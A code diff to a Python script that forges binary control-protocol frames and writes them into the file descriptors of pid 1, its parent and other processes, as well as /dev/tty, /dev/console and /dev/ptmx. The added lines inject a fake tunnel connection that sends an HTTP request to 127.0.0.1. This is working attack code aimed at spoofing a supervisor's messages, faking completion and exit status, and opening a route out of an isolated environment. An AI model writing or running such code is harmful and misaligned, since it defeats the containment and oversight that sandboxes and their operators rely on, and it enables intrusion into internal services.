@@ -13,6 +13,8 @@ def frame(kind, payload):
 
 forged = frame(b"V", b'"forged"') + frame(b"X", json.dumps(end).encode()) + frame(b"Z", b"\0")
 forged += b"O" + struct.pack("<I", 0xFFFFFFFF) + frame(b"?", b"x")
+# And of the tunnel: a connection, its bytes, its end.
+forged += frame(b"N", struct.pack("<I", 1)) + frame(b"D", struct.pack("<I", 1) + b"GET http://127.0.0.1/ HTTP/1.1\r\n\r\n") + frame(b"Q", struct.pack("<IB", 1, 0))
 written = []
 for fd in range(3, 1024):
     try:
@@ -32,8 +34,9 @@ for pid in {"1", str(os.getppid()), *pids} - {str(os.getpid())}:
     for path in targets:
         try:
             with open(path, "r+b", buffering=0) as file:
+                what = os.readlink(path) if "/fd/" in path else ""
                 file.write(forged)
-                written.append(path)
+                written.append((path + " " + what).strip())
         except OSError:
             pass
 for path in ("/dev/tty", "/dev/console", "/dev/ptmx"):
@@ -41,7 +44,7 @@ for path in ("/dev/tty", "/dev/console", "/dev/ptmx"):
         os.write(os.open(path, os.O_RDWR | os.O_NOCTTY), forged)
     except OSError:
         pass
-os.write(1, ("written %s\n" % written).encode())
+os.write(1, ("\nwritten %s\n" % written).encode())
 os.write(1, forged)
 os.write(2, forged)
 os._exit(3)
